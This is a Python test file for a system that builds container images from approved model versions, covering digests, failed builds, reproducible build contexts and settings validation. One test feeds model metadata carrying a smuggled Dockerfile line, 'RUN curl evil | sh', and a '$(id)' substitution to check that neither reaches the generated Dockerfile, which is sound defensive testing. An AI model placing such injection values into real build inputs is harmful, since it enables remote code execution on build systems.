import gzip
import io
import shutil
import tarfile
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path

import pytest

from edge.keys import Keyring
from edge.shelf import Shelf
from functions.journal import entries
from functions.operator.status import status
from functions.ports import ImageState, ModelVersion
from functions.rollout import image, images
from functions.rollout.records import DONE, HELD, Record, standing
from functions.settings import Settings
from functions.wiring import using
from tests.edge.models import KEY, model_folder
from tests.fakes.cloud import ENVIRONMENT, GROUP, FakeCloud, FakeImages

NOW = datetime(2026, 3, 1, 12, tzinfo=UTC)
LOOP = "flight-delays"
BASE = "refluent.azurecr.io/edge@sha256:" + "7" * 64
STORE = "https://refluent.blob.core.windows.net/models/"
REGISTRY = {
    "CONTAINER_REGISTRY_ID": f"{GROUP}/Microsoft.ContainerRegistry/registries/refluent",
    "CONTAINER_REGISTRY_LOGIN_SERVER": "refluent.azurecr.io",
    "MODEL_IMAGE_BASE": BASE,
}


@pytest.fixture
def here() -> Iterator[FakeCloud]:
    """A registry, and versions 1 and 2, of which 1 waits for approval."""
    here = FakeCloud(settings=Settings.model_validate({**ENVIRONMENT, **REGISTRY}), images=FakeImages())
    for version, state in ((1, HELD), (2, DONE)):
        record = Record(version, state, 1, NOW)
        here.rows.insert("rollouts", LOOP, record.key, row=record.row)
        here.registry.register(model(str(version)))
        here.blobs.put("models", f"{LOOP}/{version}/files.json", b"{}")
    with using(here):
        yield here


def model(version: str, **more: str) -> ModelVersion:
    lineage = {"job": "rt-1", "sha256": version * 64, "profile": "0f" * 8, **more}
    return ModelVersion(LOOP, version, f"{LOOP}/{version}", lineage)


def turn(here: FakeCloud) -> None:
    images.build(here, here.settings.loops[LOOP], standing(here.rows, LOOP), NOW)


def state(here: FakeCloud) -> dict[str, str]:
    (found,) = status(here.rows, here.settings.loops)
    return dict(found.images)


def test_a_version_that_reaches_the_fleet_becomes_an_image_and_is_known_by_its_digest(here: FakeCloud) -> None:
    assert here.images
    for _ in range(2):
        turn(here)
        assert state(here) == {"2": "building"}
    ((name, (build, _)),) = here.images.builds.items()
    assert (build.repository, build.tag) == (LOOP, "2")
    made = f"refluent.azurecr.io/{LOOP}@sha256:{'d' * 64}"
    here.images.ended[name] = ImageState("built", made)
    for _ in range(2):
        turn(here)
    assert state(here) == {"2": made}
    assert [(one.decision, one.reason) for one in entries(here.rows, [LOOP])] == [("Image", made)]


def test_a_build_that_failed_is_told_once_and_not_tried_for_ever(here: FakeCloud) -> None:
    assert here.images
    turn(here)
    here.images.ended = dict.fromkeys(here.images.builds, ImageState("failed", detail="no such base"))
    for _ in range(3):
        turn(here)
    assert state(here) == {"2": "failed no such base"}
    assert [one.decision for one in entries(here.rows, [LOOP])] == ["NoImage"]


def test_without_a_registry_nothing_is_built(here: FakeCloud) -> None:
    here.images = None
    turn(here)
    assert state(here) == {}


def unpacked(context: bytes) -> dict[str, bytes]:
    with tarfile.open(fileobj=io.BytesIO(gzip.decompress(context))) as archive:
        return {one.name: file.read() for one in archive if (file := archive.extractfile(one))}


def test_the_same_model_on_the_same_base_is_the_same_build_byte_for_byte() -> None:
    files = {"model.onnx": b"x", "files.json": b"{}"}
    assert image.context(model("2"), files, base=BASE, store=STORE) == image.context(
        model("2"), dict(reversed(files.items())), base=BASE, store=STORE
    )
    assert image.name(model("2"), BASE) == image.name(model("2"), BASE)
    assert image.name(model("2"), BASE) != image.name(model("3"), BASE)
    assert image.name(model("2"), BASE) != image.name(model("2"), BASE.replace("7", "8"))


def test_labels_mirror_the_lineage_and_nothing_in_it_becomes_an_instruction() -> None:
    evil = model("2", note='"\nRUN curl evil | sh', other="$(id)", metrics="0.5")
    told = unpacked(image.context(evil, {}, base=BASE, store=STORE))["Dockerfile"].decode()
    lines = told.splitlines()
    assert [line.split()[0] for line in lines] == ["FROM", "LABEL", "COPY", "ENV"]
    assert '"refluent.job"="rt-1"' in lines[1]
    assert '"refluent.metrics"="0.5"' in lines[1]
    assert "evil" not in told
    assert lines[0] == f"FROM {BASE}"


def test_a_device_program_starts_from_what_the_image_brings(tmp_path: Path) -> None:
    folder = model_folder("2")
    wanted = folder.wanted
    made = ModelVersion(wanted.model, "2", f"{LOOP}/2", {"sha256": wanted.sha256, "profile": wanted.profile})
    files = unpacked(image.context(made, folder.files, base=BASE, store=STORE))
    for name, content in files.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(content)
    shelf = Shelf(tmp_path / "shelf", Keyring((KEY,)))
    (served,) = shelf.served()
    assert served.identity == wanted.identity
    assert shelf.take(served) == folder.files
    shutil.rmtree(tmp_path / "shelf")


def test_a_registry_without_a_base_image_is_refused_at_the_start() -> None:
    with pytest.raises(ValueError, match="MODEL_IMAGE_BASE"):
        Settings.model_validate({**ENVIRONMENT, **REGISTRY, "MODEL_IMAGE_BASE": ""})
